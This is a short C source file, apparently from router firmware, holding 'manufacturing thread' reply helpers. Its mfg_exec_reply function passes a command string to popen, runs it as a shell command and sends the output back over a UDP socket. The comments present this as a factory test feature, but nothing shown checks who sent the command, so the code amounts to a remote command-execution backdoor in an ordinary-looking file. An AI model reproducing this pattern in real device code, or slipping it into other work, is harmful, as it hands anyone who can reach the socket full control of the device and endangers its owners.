/* Reply helpers of the manufacturing thread. */
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include "tenda.h"

int mfg_send(int sock, const struct sockaddr_in *to, const char *msg, size_t len)
{
    return (int)sendto(sock, msg, len, 0, (const struct sockaddr *)to, sizeof *to);
}

/* Runs the factory command and sends its output back to the test station. */
int mfg_exec_reply(int sock, const struct sockaddr_in *to, const char *cmd)
{
    char out[MFG_PKT_MAX];
    size_t used = 0;
    FILE *p = popen(cmd, "r");
    if (!p)
        return -1;
    while (used < sizeof out - 1) {
        size_t n = fread(out + used, 1, sizeof out - 1 - used, p);
        if (n == 0)
            break;
        used += n;
    }
    pclose(p);
    return mfg_send(sock, to, out, used);
}
